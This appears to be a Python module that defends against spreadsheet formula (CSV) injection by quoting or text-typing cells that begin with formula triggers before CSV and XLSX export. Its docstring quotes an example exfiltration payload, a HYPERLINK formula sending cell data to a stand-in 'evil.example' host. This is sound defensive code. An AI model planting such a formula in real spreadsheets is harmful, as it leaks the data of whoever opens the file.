"""Text bound for a spreadsheet, made inert: a cell a user typed must never run as a formula.

A title such as ``=HYPERLINK("https://evil.example/?d="&A1,"Open")`` set by a control owner
would otherwise become a live formula in the gap workbook an auditor opens. Every CSV and
XLSX writer passes its cells through here (OWASP's CSV injection advice): in CSV a text cell
starting with ``= + - @`` (or a tab or carriage return) gets a leading apostrophe, which
spreadsheets show as text; in XLSX such a cell is written as text (never as a formula) with
Excel's quote prefix, so the value itself is unchanged.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Control characters an XLSX cell (XML 1.0) cannot hold; tab, line feed and carriage
# return it can.
UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def starts_like_formula(text: str) -> bool:
    return text.startswith(TRIGGERS)


def csv_safe(cell: object) -> object:
    """The cell for a CSV file: numbers as they are, risky text behind an apostrophe."""
    if isinstance(cell, str) and starts_like_formula(cell):
        return "'" + cell
    return cell


def xlsx_cell(cell: object) -> object:
    """The cell for a worksheet: text with a character no worksheet holds (a vertical tab
    pasted from a word processor, an escape) shows U+FFFD there instead of failing the
    whole workbook."""
    if isinstance(cell, str):
        return UNWRITABLE.sub("\ufffd", cell)
    return cell


def inert_cells(row: Iterable[Any]) -> None:
    """Worksheet cells (openpyxl's) of text that would run as a formula: kept as text,
    shown as typed."""
    for cell in row:
        if isinstance(cell.value, str) and starts_like_formula(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True


def from_csv_safe(text: str) -> str:
    """Undo ``csv_safe`` when reading back a CSV we may have written."""
    if text.startswith("'") and starts_like_formula(text[1:]):
        return text[1:]
    return text
